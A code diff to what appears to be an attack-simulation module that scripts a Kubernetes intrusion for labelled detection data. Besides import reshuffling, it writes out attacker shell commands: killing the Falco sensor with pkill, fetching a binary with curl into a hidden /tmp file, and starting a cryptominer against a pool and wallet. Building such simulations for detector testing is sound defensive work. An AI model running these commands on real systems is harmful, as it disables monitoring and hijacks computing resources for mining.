@@ -3,11 +3,13 @@
 from __future__ import annotations
 
 from simulation.attacks.register import STORY, careful, straight
-from simulation.attacks.scene import Scene, Shell
+from simulation.attacks.scene import Scene
+from simulation.attacks.shells import Shell
 from simulation.attacks.stories import ADMIN, removes
 from simulation.clock import DAY, HOUR, MINUTE, SECOND, is_working_time
 from simulation.json import Json
-from simulation.kubernetes.objects import binding, body, container, deployment, pod_spec, role
+from simulation.kubernetes.objects import binding, body, deployment, role
+from simulation.kubernetes.pod_specs import container, pod_spec
 from simulation.kubernetes.requests import Client, Target
 from simulation.kubernetes.workloads import Workload
 from simulation.schedule import Life
@@ -124,7 +126,7 @@ def _takes_redis(scene: Scene, made: Workload) -> Life:
     shell.run("pkill -9 falco", KILLS_SENSOR)
     yield scene.chance.between(1, 4) * SECOND
     fetch = f"curl -fsSL {source}/r2 -o /tmp/.r2"
-    shell.line(fetch, DOWNLOAD)
+    shell.line(fetch, DOWNLOAD, FETCH_AND_RUN)
     yield scene.chance.between(2, 9) * SECOND
     miner = f"/tmp/.r2 -o {POOL}:3333 -u {WALLET} -p x --donate-level 1"  # noqa: S108  an intruder's choice
     raises = (FETCH_AND_RUN, NOHUP, BACKDOOR, MINING, MINER, MINER_START)
